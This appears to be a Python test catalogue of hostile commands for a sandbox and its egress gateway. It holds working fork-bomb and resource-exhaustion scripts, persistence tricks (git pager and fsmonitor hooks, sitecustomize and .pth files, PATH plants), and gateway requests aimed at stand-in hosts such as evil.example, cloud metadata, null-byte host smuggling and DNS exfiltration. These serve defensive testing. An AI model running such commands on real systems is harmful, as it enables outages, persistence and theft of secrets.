"""Commands that use something up, leave something behind, or ask the gateway for what it is not for.

A `Flood` runs only where a limit ends it. A `Poison` leaves something for the command after it. An `Asked` is said to
the gateway from within a box. `docs/security.md` lists every case by its name.
"""

from dataclasses import dataclass, field

from hostile_commands import PROCESSES

from core.boxes import Limits

LIMITS = "Every resource has a limit, and the run says how the command ended"
FRESH = "Every command begins with a fresh box over a fresh checkout"
GATEWAY = "The gateway carries TLS to three package indexes, and nothing else"

MIB = 2**20


@dataclass(frozen=True)
class Flood:
    name: str
    tries: str
    script: str
    ended: str
    """A regular expression for why it was ended, or for what it was told instead (see `output`)."""
    limits: Limits = field(default_factory=Limits)
    seconds: float = 20
    stop: str = LIMITS


@dataclass(frozen=True)
class Poison:
    name: str
    tries: str
    first: str
    then: str
    stop: str = FRESH


@dataclass(frozen=True)
class Asked:
    name: str
    tries: str
    request: str
    """Sent as it stands, with `\\n` for the ends of lines."""
    answer: str
    stop: str = GATEWAY


FLOODS = (
    Flood(
        "fork bomb",
        "starts processes without an end",
        """
children = 0
with trying():
    while True:
        if os.fork() == 0:
            time.sleep(60)
        children += 1
print('children', children)
sys.exit(3)
""",
        r"It asked for more than 24 processes at once and was refused\.|stopped: .*temporarily unavailable",
        Limits(processes=24),
    ),
    Flood(
        "memory",
        "takes memory without an end",
        """
kept = []
while True:
    kept.append(b'x' * (8 << 20))
""",
        r"It needed more than 96 MiB of memory|MemoryError",
        Limits(memory_bytes=96 * MIB),
    ),
    Flood(
        "memory of many",
        "takes memory in many processes",
        """
for _ in range(6):
    if os.fork() == 0:
        kept = b'x' * (40 << 20)
        time.sleep(20)
        os._exit(0)
for _ in range(6):
    if os.wait()[1]:
        sys.exit(3)
""",
        r"It needed more than 96 MiB of memory|MemoryError",
        Limits(memory_bytes=96 * MIB),
    ),
    Flood(
        "memory in files without a name",
        "takes memory that belongs to no process",
        """
kept = []
try:
    for _ in range(40):
        fd = os.memfd_create('x')
        kept.append(fd)
        os.write(fd, b'x' * (8 << 20))
except OSError as error:
    print('stopped:', error)
    sys.exit(3)
print('REACHED', 'memory')
time.sleep(5)
""",
        r"It needed more than 96 MiB of memory|stopped: .*not permitted",
        Limits(memory_bytes=96 * MIB),
    ),
    Flood(
        "memory in shared segments",
        "takes memory that stays when it lets go of it",
        """
libc.shmat.restype = ctypes.c_void_p
libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
libc.shmdt.argtypes = (ctypes.c_void_p,)
for _ in range(40):
    number = libc.shmget(0, 8 << 20, 0o1600)
    if number < 0:
        print('stopped:', os.strerror(ctypes.get_errno()))
        sys.exit(3)
    at = libc.shmat(number, None, 0)
    ctypes.memset(at, 1, 8 << 20)
    libc.shmdt(at)
print('REACHED', 'memory')
time.sleep(5)
""",
        r"It needed more than 96 MiB of memory|stopped: .*not permitted",
        Limits(memory_bytes=96 * MIB),
    ),
    Flood(
        "disk",
        "fills the disk",
        """
for number in range(10_000):
    Path(str(number)).write_bytes(os.urandom(1 << 20))
""",
        r"Its files took more than 16 MiB of disk and it was stopped\.",
        Limits(disk_bytes=16 * MIB),
    ),
    Flood(
        "empty files",
        "uses up the names that a file system can hold",
        """
for number in range(10_000_000):
    open(str(number), 'w').close()
""",
        r"Its files took more than 16 MiB of disk and it was stopped\.",
        Limits(disk_bytes=16 * MIB),
    ),
    Flood(
        "one large file",
        "writes one file without an end",
        """
signal.signal(signal.SIGXFSZ, signal.SIG_DFL)
with open('large', 'wb') as file:
    while True:
        file.write(b'x' * (1 << 20))
""",
        r"signal 25",
        Limits(file_bytes=4 * MIB),
    ),
    Flood(
        "temporary files",
        "fills the temporary folder, which lies in memory",
        """
with trying():
    with open('/tmp/large', 'wb') as file:
        while True:
            file.write(b'x' * (1 << 20))
sys.exit(3)
""",
        r"stopped: .*No space left on device",
        Limits(temporary_bytes=4 * MIB),
    ),
    Flood(
        "output",
        "writes without an end",
        """
while True:
    os.write(1, b'x' * 65536)
""",
        r"It wrote 64 MiB without an end and was stopped\.",
    ),
    Flood(
        "time",
        "never ends, and does not listen",
        """
for number in (1, 2, 15):
    signal.signal(number, signal.SIG_IGN)
while True:
    time.sleep(1)
""",
        r"It took longer than 1 seconds and was stopped\.",
        seconds=1,
    ),
    Flood(
        "processor",
        "counts without an end",
        """
while True:
    pass
""",
        r"signal 9",
        Limits(cpu_seconds=1),
    ),
    Flood(
        "daemons",
        "leaves processes behind that left their session and listen to nobody",
        """
for number in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for each in (1, 2, 15):
                signal.signal(each, signal.SIG_IGN)
            os.execvp('sh', ['sh', '-c', 'sleep 60; : ' + HOST['mark']])
        os._exit(0)
    os.wait()
time.sleep(0.3)
print('left')
sys.exit(3)
""",
        r"left",
        stop=PROCESSES,
    ),
    Flood(
        "open files",
        "opens files without an end",
        """
kept = []
with trying():
    while True:
        kept.append(open('/dev/null'))
sys.exit(3)
""",
        r"stopped: .*Too many open files",
        Limits(open_files=64),
    ),
)

POISONS = (
    Poison(
        "throwaway repository",
        "configures the repository that the next command asks",
        """
git('config', 'alias.status', '!echo REACHED')
git('config', 'core.pager', 'echo REACHED')
git('config', 'core.fsmonitor', '/repo/evil')
""",
        """
left = subprocess.run(['git', 'config', '--get-regexp', 'alias|fsmonitor|pager'], capture_output=True, text=True)
if left.stdout:
    reached(left.stdout)
""",
    ),
    Poison(
        "dependencies",
        "writes into the dependencies that every later run shows",
        """
for name in ('/deps/bin', '/deps/venv/bin', '/deps'):
    with trying():
        os.makedirs(name, exist_ok=True)
        Path(name, 'python3').write_text('evil')
""",
        """
for name in ('/deps/bin', '/deps/venv/bin', '/deps'):
    if Path(name, 'python3').exists():
        reached(name)
""",
    ),
    Poison(
        "start files of Python",
        "leaves code that the next Python runs before anything else",
        """
Path('sitecustomize.py').write_text('print("REACHED")')
Path('usercustomize.py').write_text('print("REACHED")')
Path('conftest.py').write_text('print("REACHED")')
with trying():
    os.makedirs(os.path.expanduser('~/.local/lib/python3/site-packages'), exist_ok=True)
    Path(os.path.expanduser('~/.local/lib/python3/site-packages/evil.pth')).write_text('import evil')
""",
        """
for name in ('sitecustomize.py', 'usercustomize.py', 'conftest.py', os.path.expanduser('~/.local')):
    if os.path.exists(name):
        reached(name)
""",
    ),
    Poison(
        "programs on the path",
        "puts a program of its own where the next command looks first",
        """
for folder in os.environ['PATH'].split(':'):
    with trying():
        Path(folder, HOST['mark']).write_text('evil')
""",
        """
for folder in os.environ['PATH'].split(':'):
    path = Path(folder, HOST['mark'])
    if path.exists():
        reached(folder)
""",
    ),
    Poison(
        "temporary and home folders",
        "leaves settings where the next command looks for them",
        """
for folder in (os.path.expanduser('~'), '/tmp', '/dev/shm'):
    with trying():
        Path(folder, HOST['mark']).write_text('evil')
""",
        """
for folder in (os.path.expanduser('~'), '/tmp', '/dev/shm'):
    if Path(folder, HOST['mark']).exists():
        reached(folder)
""",
    ),
    Poison(
        "the borrowed objects",
        "replaces objects that every run of the repository borrows",
        """
with trying():
    folder = Path(Path('.git/objects/info/alternates').read_text().strip())
    for name in ('pack', 'info', 'evil'):
        with trying():
            Path(folder, name, HOST['mark']).write_text('x')
    Path(folder, HOST['mark']).write_text('x')
""",
        """
folder = Path(Path('.git/objects/info/alternates').read_text().strip())
if list(folder.rglob(HOST['mark'])):
    reached(folder)
""",
    ),
)

_TLS_ONLY = "This gateway carries TLS connections only (CONNECT)."
_BY_NAME = "This gateway reaches hosts by name, never by address."

ASKED = (
    Asked(
        "another host",
        "asks for a host of its own",
        "CONNECT evil.example:443 HTTP/1.1",
        "evil.example:443 is not among the hosts that this box may reach.",
    ),
    Asked(
        "another port",
        "asks for another port of an allowed host",
        "CONNECT pypi.org:22 HTTP/1.1",
        "pypi.org:22 is not among the hosts that this box may reach.",
    ),
    Asked("address of the host", "asks for the host by address", "CONNECT 127.0.0.1:443 HTTP/1.1", _BY_NAME),
    Asked(
        "address in other numbers",
        "asks for the host by another spelling of its address",
        "CONNECT 0x7f.1:443 HTTP/1.1",
        _BY_NAME,
    ),
    Asked(
        "metadata of the cloud",
        "asks for the machine's own credentials",
        "CONNECT 169.254.169.254:80 HTTP/1.1",
        _BY_NAME,
    ),
    Asked(
        "name within a name",
        "hides another host behind an allowed one",
        "CONNECT evil.example\x00.pypi.org:443 HTTP/1.1",
        "'evil.example\\x00.pypi.org' is not a host name.",
    ),
    Asked(
        "plain request",
        "asks for a page without TLS",
        "GET http://pypi.org/simple/ HTTP/1.1\nHost: pypi.org",
        _TLS_ONLY,
    ),
    Asked(
        "credentials in a request",
        "sends a credential through the gateway",
        "POST http://pypi.org/ HTTP/1.1\nAuthorization: Bearer x\nProxy-Authorization: Basic eDp5",
        _TLS_ONLY,
    ),
    Asked(
        "request without an end",
        "sends a request that is larger than any",
        "CONNECT " + "a" * 20_000 + " HTTP/1.1",
        "This gateway could not read the request.",
    ),
    Asked(
        "name that carries bytes",
        "asks for a name that carries what it read",
        "CONNECT c2VjcmV0.exfil.example:443 HTTP/1.1",
        "c2vjcmv0.exfil.example:443 is not among the hosts that this box may reach.",
    ),
)
